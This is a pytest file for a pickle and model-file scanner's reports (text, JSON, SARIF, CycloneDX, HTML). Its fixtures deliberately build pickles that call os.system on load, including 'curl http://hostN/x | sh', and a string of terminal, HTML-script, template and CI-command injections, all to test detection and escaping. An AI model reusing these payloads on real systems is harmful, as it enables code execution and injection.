"""Reports of scan: for a terminal, for machines, for browsers."""

from __future__ import annotations

import io
import json
import os
import pickle
import re
import shutil
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path
from typing import TYPE_CHECKING, Any

import jsonschema
import pytest
from sarif_pydantic import Sarif

import safeload
from safeload.report.page import render_html
from safeload.report.plain import lines_of
from safeload.report.sarif import render_sarif
from safeload.report.table import RENDERERS
from testkit.schemas import sarif_schema

if TYPE_CHECKING:
    from collections.abc import Sequence

NASTY = "\x1b]8;;http://evil\x07<script>alert(1)</script>\u202e'\"&{{7*7}}::set-output"


class Called:
    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> Any:
        return os.system, (self.command,)


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    (tmp_path / "good.pkl").write_bytes(pickle.dumps([1, 2]))
    (tmp_path / "bad.pkl").write_bytes(pickle.dumps(Called("touch MARK")))
    (tmp_path / "own.pkl").write_bytes(b"\x80\x04\x8c\x05mypkg\x8c\x01C\x93)\x81.")
    (tmp_path / "cut.pkl").write_bytes(pickle.dumps(list(range(500)))[:-5])
    (tmp_path / f"x{NASTY.replace('/', '')}.pkl").write_bytes(pickle.dumps(Called(NASTY)))
    return tmp_path


def text_of(report: safeload.Report, **options: Any) -> str:
    return "\n".join(f"{line.mark}{line.text}" for line in lines_of(report, **options))


def test_what_to_install_is_said_also_where_there_are_many_files(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "defusedxml.ElementTree", None)  # as where it is not installed
    for number in range(9):
        (tmp_path / f"{number}.pmml").write_text("<PMML></PMML>")
    report = safeload.scan(tmp_path)
    assert report.exit_code == 2
    assert text_of(report).count("pip install 'safeload[scan]'") == 1
    assert text_of(safeload.scan(tmp_path / "1.pmml")).count("pip install 'safeload[scan]'") == 1


def test_a_file_that_is_not_there_is_said_not_to_be_there(tmp_path: Path) -> None:
    report = safeload.scan(tmp_path / "nowhere")
    assert report.exit_code == 2
    assert "No such file" in text_of(report)


def test_the_text_names_every_bad_file_with_its_reason_and_fits_a_screen(folder: Path) -> None:
    text = text_of(safeload.scan(folder))
    assert len(text.splitlines()) <= 24
    for name in ("bad.pkl", "own.pkl", "cut.pkl"):
        assert name in text
    assert "is called with 'touch MARK' while loading" in text
    assert "5 files: 3 with findings, 1 not read to the end, 1 without a finding" in text


def test_thirty_files_fit_a_screen_too(folder: Path) -> None:
    for number in range(12):
        (folder / f"bad{number}.pkl").write_bytes(pickle.dumps(Called(f"curl http://host{number}/x | sh")))
        (folder / f"good{number}.pkl").write_bytes(pickle.dumps(number))
    lines = text_of(safeload.scan(folder)).splitlines()
    assert len(lines) <= 24
    for number in range(12):
        assert any(f"bad{number}.pkl" in line and f"host{number}" in line for line in lines)


def test_a_file_with_many_findings_takes_a_few_lines(tmp_path: Path) -> None:
    names = b"".join(b"\x8c\x05mypkg\x8c\x04C%03d\x93" % number for number in range(300))
    (tmp_path / "many.pkl").write_bytes(b"\x80\x04](" + names + b"e.")
    report = safeload.scan(tmp_path)
    assert len(text_of(report).splitlines()) < 12
    assert "and 297 more" in text_of(report)
    assert len(text_of(report, everything=True).splitlines()) > 300


@pytest.mark.parametrize("form", ["text", *RENDERERS])
def test_nothing_from_a_file_reaches_a_report_as_more_than_letters(form: str, folder: Path) -> None:
    report = safeload.scan(folder)
    rendered = text_of(report, everything=True) if form == "text" else RENDERERS[form](report)
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e\u2066-\u2069]", rendered)
    if form == "html":
        assert "<script>alert" not in rendered
        assert "{{7*7}}" in rendered  # a template in a name is text


def test_json_says_what_the_schema_promises(folder: Path) -> None:
    schema = json.loads((Path(__file__).parent.parent / "docs" / "scan.schema.json").read_text("utf-8"))
    document = json.loads(RENDERERS["json"](safeload.scan(folder)))
    jsonschema.validate(document, schema)
    assert document["exit_code"] == 1
    lines = [json.loads(line) for line in RENDERERS["jsonl"](safeload.scan(folder)).splitlines()]
    assert lines[:-1] == document["files"]
    assert lines[-1]["files_total"] == 5


def test_sarif_is_sarif_and_keeps_githubs_rules(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(folder)
    document = json.loads(render_sarif(safeload.scan(folder)))
    Sarif.model_validate(document)
    jsonschema.Draft7Validator(sarif_schema(), format_checker=jsonschema.FormatChecker()).validate(document)
    (run,) = document["runs"]
    rules = {rule["id"]: rule for rule in run["tool"]["driver"]["rules"]}
    assert run["automationDetails"]["id"].endswith("/")
    assert len(run["results"]) == 4
    for result in run["results"]:
        (location,) = result["locations"]
        uri = location["physicalLocation"]["artifactLocation"]["uri"]
        assert not uri.startswith("/")
        assert ":" not in uri.replace("%3A", "")
        assert result["ruleId"] in rules
        assert set(result["partialFingerprints"]) == {"primaryLocationLineHash"}
    assert all(type(rule["properties"]["security-severity"]) is str for rule in rules.values())


def test_the_bill_of_materials_is_one(folder: Path) -> None:
    from cyclonedx.schema import SchemaVersion
    from cyclonedx.validation.json import JsonStrictValidator

    report = safeload.scan(folder)
    text = RENDERERS["cyclonedx"](report)
    assert JsonStrictValidator(SchemaVersion.V1_6).validate_str(text) is None
    document = json.loads(text)
    parts = {part["name"]: part for part in document["components"]}
    assert {part["type"] for part in parts.values()} == {"machine-learning-model"}
    import hashlib

    digest = hashlib.sha256((folder / "good.pkl").read_bytes()).hexdigest()
    assert parts["good.pkl"]["hashes"] == [{"alg": "SHA-256", "content": digest}]
    refs = {part["bom-ref"]: part["name"] for part in parts.values()}
    found = {(refs[each["affects"][0]["ref"]], each["id"]) for each in document["vulnerabilities"]}
    assert {("bad.pkl", "SL101"), ("own.pkl", "SL201")} <= found


def test_a_fingerprint_stays_where_the_file_moves(tmp_path: Path) -> None:
    prints = []
    for name in ("a", "b"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "m.pkl").write_bytes(pickle.dumps([name, Called("x")]))
        (run,) = json.loads(render_sarif(safeload.scan(tmp_path / name)))["runs"]
        prints.append(run["results"][0]["partialFingerprints"])
    assert prints[0] == prints[1]


def test_a_member_of_an_archive_is_a_logical_location() -> None:
    import zipfile

    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("a/b.dat", pickle.dumps(Called("x")))
    buffer.seek(0)
    (run,) = json.loads(render_sarif(safeload.scan(buffer)))["runs"]
    (logical,) = run["results"][0]["locations"][0]["logicalLocations"]
    assert logical["fullyQualifiedName"] == "a/b.dat"


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.links: list[str] = []
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: Sequence[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.links += [value or "" for name, value in attrs if name in ("src", "href", "action", "data")]


def test_the_page_asks_nobody_for_anything(folder: Path) -> None:
    page = _Page()
    page.feed(render_html(safeload.scan(folder)))
    assert page.links == []
    assert page.tags.count("script") == page.tags.count("style") == 1
    assert not {"iframe", "object", "embed", "form", "base", "link"} & set(page.tags)


BROWSER = shutil.which("chromium")
FLAGS = "--headless --no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking"


@pytest.mark.skipif(BROWSER is None and not os.environ.get("CI"), reason="there is no chromium here")
def test_the_page_works_in_a_browser(folder: Path, tmp_path: Path) -> None:
    """Its script runs under its own policy, no other does, and the verdict stands at the top."""
    page = tmp_path / "report.html"
    page.write_text(render_html(safeload.scan(folder)), "utf-8")
    command = [str(BROWSER), *FLAGS.split(), f"--user-data-dir={tmp_path}/browser", "--dump-dom", page.as_uri()]
    done = subprocess.run(command, capture_output=True, text=True, timeout=120, check=True)
    assert "5 of 5 shown" in done.stdout  # written by the script
    assert "Do not load these 3 files" in done.stdout
    assert "Refused to" not in done.stderr
    assert "alert(1)</script>" not in done.stdout.replace("&lt;", "<!").replace("&gt;", "!>")


def scan(*arguments: str, **options: Any) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-m", "safeload", "scan", *arguments]
    return subprocess.run(command, capture_output=True, text=True, timeout=120, check=False, **options)


def test_the_command_says_what_it_found_by_its_exit_code(folder: Path) -> None:
    assert scan(str(folder / "good.pkl")).returncode == 0
    assert scan(str(folder / "bad.pkl")).returncode == 1
    assert scan(str(folder / "cut.pkl")).returncode == 2
    assert scan(str(folder / "good.pkl"), str(folder / "cut.pkl"), str(folder / "own.pkl")).returncode == 1
    assert scan(str(folder / "own.pkl"), "--fail-on", "high").returncode == 0
    assert scan(str(folder / "own.pkl"), "--allow", "mypkg.C").returncode == 0
    assert scan(str(folder / "missing")).returncode == 2
    assert scan().returncode == 2
    assert scan(str(folder), "--exclude", "*bad*", "--exclude", "own.*", "--exclude", "x*").returncode == 2


def test_a_report_goes_into_a_file_and_the_text_to_the_terminal(folder: Path, tmp_path: Path) -> None:
    out = tmp_path / "report.sarif"
    done = scan(str(folder), "--format", "sarif", "-o", str(out))
    assert done.returncode == 1
    assert "5 files: 3 with findings" in done.stdout
    assert json.loads(out.read_text("utf-8"))["version"] == "2.1.0"
    assert json.loads(scan(str(folder), "--format", "json").stdout)["files_found"] == 3


def test_explain_says_what_a_rule_means() -> None:
    command = [sys.executable, "-m", "safeload", "explain"]
    one = subprocess.run([*command, "sl101"], capture_output=True, text=True, timeout=60, check=True)
    assert safeload.RULES["SL101"].why in one.stdout
    every = subprocess.run(command, capture_output=True, text=True, timeout=60, check=True)
    assert all(rule in every.stdout for rule in safeload.RULES)
    wrong = subprocess.run([*command, "SL999"], capture_output=True, text=True, timeout=60, check=False)
    assert wrong.returncode == 2


def test_scan_imports_no_library_of_models(folder: Path) -> None:
    code = "import sys, safeload; safeload.scan(sys.argv[1]); "
    code += "print({'numpy', 'sklearn', 'pandas', 'joblib', 'h5py', 'scipy', 'pyarrow'} & set(sys.modules))"
    done = subprocess.run([sys.executable, "-c", code, str(folder)], capture_output=True, timeout=60, check=True)
    assert done.stdout == b"set()\n"


def test_several_processes_give_the_same_report(folder: Path) -> None:
    for number in range(10):
        (folder / f"more{number}.pkl").write_bytes(pickle.dumps([number]))
    one, two = safeload.scan(folder), safeload.scan(folder, jobs=2)
    assert one.files == two.files


def test_a_link_to_a_file_is_read_and_one_to_a_folder_is_said_to_be_unread(folder: Path, tmp_path: Path) -> None:
    (tmp_path / "links").mkdir()
    (tmp_path / "links" / "model").symlink_to(folder / "bad.pkl")
    (tmp_path / "links" / "folder").symlink_to(folder)
    report = safeload.scan(tmp_path / "links")
    assert {Path(file.file).name: bool(file.findings) for file in report.files} == {"folder": False, "model": True}
    assert not report.complete


def test_a_pipe_is_not_waited_for(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    assert safeload.scan(tmp_path).exit_code == 2


def test_an_empty_folder_is_not_called_clean(tmp_path: Path) -> None:
    assert safeload.scan(tmp_path).exit_code == 2
    with pytest.raises(ValueError, match="unknown severity"):
        safeload.scan(tmp_path, fail_on="bad")
